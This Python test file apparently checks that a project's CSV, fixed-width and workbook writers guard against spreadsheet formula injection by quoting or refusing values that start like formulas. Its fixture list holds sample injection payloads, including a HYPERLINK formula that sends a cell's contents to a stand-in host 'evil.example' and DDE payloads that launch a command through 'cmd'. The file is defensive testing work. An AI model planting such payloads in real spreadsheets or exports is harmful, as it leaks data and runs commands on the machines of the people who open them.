"""One formula guard for every CSV and text file a person's program opens: each writer of the project fed
values that start like a formula (as a service tampered with would answer) writes no cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return; a write-back leaves such a value out and says why."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from fileio.address_service.result_codes import decode_results, qstat_summary
from fileio.address_service.result_file import read_result_file
from fileio.address_service.results import merge_results, write_address_results
from fileio.address_service.user_results import user_results
from fileio.formulas import FORMULA_STARTS
from fileio.rejected_rows import rejected_report, write_rejected
from fileio.reports import CsvStyle, write_csv
from fileio.tables import read_table
from fileio.writeback import write_back
from fileio.writeback.report import SkippedChange, written_back
from fileio.writeback_policy import FORMULA_REFUSED
from tests.fileio.test_address_results import address_input, write_result
from tests.outputs import EXCEL, RFC4180, output_rows
from tests.packages import PACKAGES

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Lindenstrasse")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
    "\tLuzern",
    "\r=1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
)
STYLES = (EXCEL, RFC4180)
# The places that may call a CSV writer themselves: the guarded writer for people, and the upload file the
# address service reads (a program, never a spreadsheet; fileio.address_service.wire).
CSV_WRITERS = {"fileio/reports.py", "fileio/address_service/wire.py"}
_WRITER_CALL = re.compile(r"\.to_csv\(|csv\.(?:writer|DictWriter)\(")


def _hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({value: [value, f"{value} ok", 1.5] for value in HOSTILE})


def _cells(path: Path) -> Iterator[tuple[str, str]]:
    """(column name, cell) of every cell of a CSV file the flows wrote, the header's included."""
    header, *rows = output_rows(path)
    yield from (("", name) for name in header)
    for row in rows:
        yield from zip(header, row, strict=True)


def assert_guarded(path: Path) -> None:
    """No cell of the CSV file starts like a formula, a service's code included."""
    for column, cell in _cells(path):
        assert not cell.startswith(FORMULA_STARTS), f"{path.name}: {column!r} holds {cell!r}"


def test_every_csv_file_is_written_by_the_guarded_writer() -> None:
    callers = {
        str(path.relative_to(ROOT))
        for package in PACKAGES
        for path in (ROOT / package).rglob("*.py")
        if _WRITER_CALL.search(path.read_text(encoding="utf-8"))
    }
    assert callers == CSV_WRITERS


@pytest.mark.parametrize("style", STYLES, ids=lambda style: style.dialect)
def test_write_csv_guards_every_value_and_column_name(tmp_path: Path, style: CsvStyle) -> None:
    path = write_csv(_hostile_frame(), tmp_path / "report.csv", style=style)

    assert_guarded(path)
    header, first, *_ = output_rows(path)
    assert header == first == ["'" + value for value in HOSTILE]


@pytest.mark.parametrize("style", STYLES, ids=lambda style: style.dialect)
def test_the_rejected_rows_and_the_writeback_skipped_list_are_guarded(
    tmp_path: Path, style: CsvStyle
) -> None:
    source = tmp_path / "kunden.csv"
    source.write_text("Kundennummer;Ort\n" + "".join(f"{n};Bern\n" for n in range(len(HOSTILE))), "utf-8")
    table = read_table(source)
    table.frame["Kundennummer"] = list(HOSTILE)
    problems = pd.DataFrame(
        {
            "row": range(1, len(HOSTILE) + 1),
            "field": list(HOSTILE),
            "reason": list(HOSTILE),
            "value": list(HOSTILE),
        }
    )
    rejected = write_rejected(
        rejected_report(problems, table, id_column="Kundennummer"), tmp_path / "rejected.csv", style=style
    )
    assert rejected is not None
    assert_guarded(rejected)

    outcome = write_back(source, tmp_path / "writeback.csv", table.layout, {})  # type: ignore[arg-type]
    lines = [
        SkippedChange(row, value, value, value, value, value, value) for row, value in enumerate(HOSTILE, 1)
    ]
    ids = pd.Series(list(HOSTILE), index=range(1, len(HOSTILE) + 1), name="=Kundennummer")
    skipped = written_back(outcome, lines, tmp_path, ids=ids, csv_style=style).skipped_path
    assert skipped is not None
    assert_guarded(skipped)
    assert output_rows(skipped)[1][-2:] == ["'" + HOSTILE[0]] * 2


def test_results_and_moves_are_guarded_codes_and_their_labels_included(tmp_path: Path) -> None:
    records = address_input(tmp_path)
    merged = merge_results(
        records, decode_results(read_result_file(write_result(tmp_path / "r.txt", "cp1252")))
    )
    for column, value in zip(("Streetname", "TownName", "HouseNo", "Name"), HOSTILE, strict=False):
        merged[column] = value
    moves = pd.DataFrame({value: [value] for value in HOSTILE})

    write_address_results(user_results(merged, records), qstat_summary(merged), tmp_path / "out", moves=moves)

    for name in ("results.csv", "moves.csv"):
        assert_guarded(tmp_path / "out" / name)


def test_service_codes_pass_the_guard_like_every_other_text(tmp_path: Path) -> None:
    records = address_input(tmp_path)
    merged = merge_results(
        records, decode_results(read_result_file(write_result(tmp_path / "r.txt", "cp1252")))
    ).head(4)
    legit = "--3" + "-" * 21  # a ShortReport of §2.5 starts with "-" when its first position says nothing
    merged["QSTAT"] = ["-1", "=1+1", "@1", "1"]
    merged["ShortReport"] = [legit, "-1+1", "=cmd|'/C calc'!A0", "+A1"]

    write_address_results(user_results(merged, records), qstat_summary(merged), tmp_path / "out")

    path = tmp_path / "out" / "results.csv"
    assert_guarded(path)
    header, *rows = output_rows(path)
    qstat, report = header.index("QSTAT"), header.index("ShortReport")
    assert [row[qstat] for row in rows] == ["'-1", "'=1+1", "'@1", "1"]  # no QSTAT starts with "-"
    # A spreadsheet computes a code that starts with "-" (-1-1 is -2): the code is guarded as text too.
    assert [row[report] for row in rows] == ["'" + legit, "'-1+1", "'=cmd|'/C calc'!A0", "'+A1"]
    labels = [position for position, name in enumerate(header) if name.startswith("SR")]
    assert labels and all(not row[label].startswith("'") for row in rows for label in labels)  # no need


def _delimited(path: Path) -> dict[str, object]:
    path.write_text("Name;Strasse;Ort\nMüller;Lindenweg 1;Bern\nFavre;Rue 2;Biel\n", "utf-8")
    return {}


def _fixed_width(path: Path) -> dict[str, object]:
    path.write_text(
        "Name    Strasse     Ort       \nMüller  Lindenweg 1 Bern      \nFavre   Rue 2       Biel      \n"
    )
    return {"fixed_widths": [("Name", 8), ("Strasse", 12), ("Ort", 10)]}


def _workbook(path: Path) -> dict[str, object]:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["Name", "Strasse", "Ort"], ["Müller", "Lindenweg 1", "Bern"], ["Favre", "Rue 2", "Biel"]):
        sheet.append(row)
    book.save(path)
    return {}


@pytest.mark.parametrize(
    ("suffix", "make"),
    [(".csv", _delimited), (".txt", _fixed_width), (".xlsx", _workbook)],
    ids=["delimited", "fixed-width", "workbook"],
)
def test_a_writeback_never_writes_a_value_that_starts_like_a_formula(
    tmp_path: Path, suffix: str, make: Callable[[Path], dict[str, object]]
) -> None:
    source = tmp_path / f"kunden{suffix}"
    options = make(source)
    table = read_table(source, **options)  # type: ignore[arg-type]
    assert table.layout is not None
    short = [value[:10] for value in HOSTILE]  # a fixed-width column would refuse a long one for its width
    edits = {1: dict(zip(("Strasse", "Ort"), short[:2], strict=True)), 2: {"Ort": short[4]}}
    edits[2]["Strasse"] = "Seeweg 3"

    outcome = write_back(source, tmp_path / f"writeback{suffix}", table.layout, edits)

    assert {(skip.row, skip.column): skip.reason for skip in outcome.skipped} == {
        (1, "Strasse"): FORMULA_REFUSED,
        (1, "Ort"): FORMULA_REFUSED,
        (2, "Ort"): FORMULA_REFUSED,
    }
    after = read_table(outcome.target, **options).frame  # type: ignore[arg-type]
    assert list(after.loc[2]) == ["Favre", "Seeweg 3", "Biel"]
    assert list(after.loc[1]) == ["Müller", "Lindenweg 1", "Bern"]
